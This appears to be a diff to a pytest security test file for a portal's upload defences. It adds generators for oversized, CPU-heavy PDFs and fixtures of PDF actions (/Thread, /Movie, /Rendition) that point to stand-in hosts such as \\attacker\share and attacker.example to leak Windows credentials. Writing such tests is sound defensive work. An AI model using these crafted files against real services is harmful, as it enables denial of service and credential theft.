@@ -1,7 +1,9 @@
-"""Holes found by probing the upload defences as an attacker would (issue 13, items 4, 5 and 9).
+"""Holes a probe of the upload defences found, as an attacker would (issue 13, items 4, 5 and 9).
 
-Each test names the rule the portal states and shows, with the file or request that breaks it,
-that the rule does not hold yet.
+Each test names the rule the hole broke; they failed when written and pass since each was closed
+at its root: bounds per request as well as per file (files, pixels decoded whole, one object
+budget for all the PDFs of an upload, every object counted), cleaned copies spooled to disk,
+actions that reach outside the file removed, Cache-Control on every answer to a session.
 """
 
 import io
@@ -32,7 +34,9 @@ def post(client, registration, files, **data):
 # Item 4: the bounds hold per file, not per request. Django lets a request carry 100 files
 # (DATA_UPLOAD_MAX_NUMBER_FILES), and each one is judged in turn: 100 PNGs of 24 Mpx (68 KB each,
 # a 6.6 MB request) cost one gunicorn worker 17.8 s of CPU; 20 PDFs of 10 MB with a script cost it
-# 399 MB, because every cleaned copy is held in memory until the last file is judged.
+# 399 MB, because every cleaned copy is held in memory (a ContentFile) until the last file is
+# judged, and each file's pypdf reader too: its objects point back to it, so only the cyclic
+# garbage collector frees it, and large byte strings do not make that collector run.
 
 def test_one_upload_judges_at_most_as_many_files_as_can_be_assembled(logged_in, registration):
     files = [upload(f"page-{n}.png", image_bytes("PNG", (20, 20))) for n in range(COMBINE_MAX_PHOTOS + 1)]
@@ -87,6 +91,75 @@ def test_judging_the_files_of_one_upload_holds_at_most_one_cleaned_copy_in_memor
     assert several - one < 3 * 1024 * 1024, f"1 file: {one / 2**20:.0f} MB, 6 files: {several / 2**20:.0f} MB"
 
 
+# Found again once the first bounds were in (commit 7ab96c3): a PDF's work has no budget per
+# request. Ten PDFs of 1.7 MB, each a chain of 29,000 objects with a script (1.9 s each, under the
+# per-file target), took 21 s of CPU in one upload; and PDF_MAX_OBJECTS counts only dictionaries
+# and arrays, so a PDF of 100,000 plain objects (in object streams, 1.6 MB) is walked whole.
+
+def _chained_pdf_with_script(links):
+    objects = [b"<< /Type /Catalog /Pages 2 0 R /PieceInfo 6 0 R /OpenAction 5 0 R >>", PAGE_TREE,
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", b"<< >>", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]
+    objects += [b"<< /Next %d 0 R >>" % (7 + n) for n in range(links - 1)] + [b"<< >>"]
+    return _raw_pdf(objects)
+
+
+def test_one_upload_of_the_most_pdfs_allowed_stays_within_the_cpu_target():
+    content = _chained_pdf_with_script(6000)  # 0.4 s each: ten of them, 4 s
+    uploads = [upload(f"scan-{n}.pdf", content) for n in range(COMBINE_MAX_PHOTOS)]
+    start = time.process_time()
+    try:
+        prepare_uploads(uploads)
+    except UploadRejected:
+        pass  # refusing such a request is a fix too
+    assert time.process_time() - start < CPU_TARGET_SECONDS
+
+
+def _pdf_of_plain_objects(count):
+    """One page, and an array of `count` references to integers held in object streams (a
+    cross-reference stream lists them): every one is a PDF object, none a dictionary or an array."""
+    import zlib
+
+    body, offsets, in_stream, first = bytearray(b"%PDF-1.7\n"), {}, {}, 5
+
+    def add(number, source):
+        offsets[number] = len(body)
+        body.extend(b"%d 0 obj\n" % number + source + b"\nendobj\n")
+
+    add(1, b"<< /Type /Catalog /Pages 2 0 R /PieceInfo 4 0 R >>")
+    add(2, PAGE_TREE)
+    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
+    add(4, b"[" + b" ".join(b"%d 0 R" % (first + n) for n in range(count)) + b"]")
+    number = first + count
+    for start in range(0, count, 1000):
+        members = range(first + start, first + min(start + 1000, count))
+        header = b" ".join(b"%d %d" % (member, 2 * k) for k, member in enumerate(members))
+        data = zlib.compress(header + b" " + b"1 " * len(members))
+        add(number, b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
+            len(members), len(header) + 1, len(data)) + data + b"\nendstream")
+        in_stream.update({member: (number, k) for k, member in enumerate(members)})
+        number += 1
+    xref = len(body)
+    rows = bytearray()
+    for n in range(number + 1):
+        if n in offsets or n == number:
+            rows += b"\x01" + (offsets[n] if n in offsets else xref).to_bytes(4, "big") + b"\0\0"
+        elif n in in_stream:
+            rows += b"\x02" + in_stream[n][0].to_bytes(4, "big") + in_stream[n][1].to_bytes(2, "big")
+        else:
+            rows += b"\0" * 7
+    data = zlib.compress(bytes(rows))
+    body += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % (
+        number, number + 1, len(data)) + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
+    return bytes(body)
+
+
+def test_a_pdf_of_more_objects_than_the_limit_is_refused_whatever_they_are():
+    from documents.uploads import PDF_MAX_OBJECTS
+
+    with pytest.raises(UploadRejected, match="trop complexe"):
+        inspect_upload(upload("dossier.pdf", _pdf_of_plain_objects(PDF_MAX_OBJECTS + 10_000)))
+
+
 # Item 5: actions that reach outside the document are kept as sent. Acrobat follows them when
 # staff click a link or a button: /GoToR, /ImportData and a file attachment reach a UNC path
 # (\\attacker\share: the staff member's Windows credentials are sent to it); /SubmitForm posts the
@@ -119,6 +192,7 @@ OUTWARD = {
     "rendition": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Screen " + RECT + b" /A << /S /Rendition /OP 0 /R << /S /MR "
                                        b"/C << /S /MCD /D << /Type /Filespec /FS /URL /F (https://attacker.example/m.mp4) >> >> >> >> >>"),
                   b"/Rendition"),
+    "thread-remote": (_link(b"<< /S /Thread /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D 0 >>"), b"attacker"),
     "movie": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Movie " + RECT + b" /Movie << /F (\\\\\\\\attacker\\\\share\\\\m.mov) >> >>"),
               b"attacker"),
 }
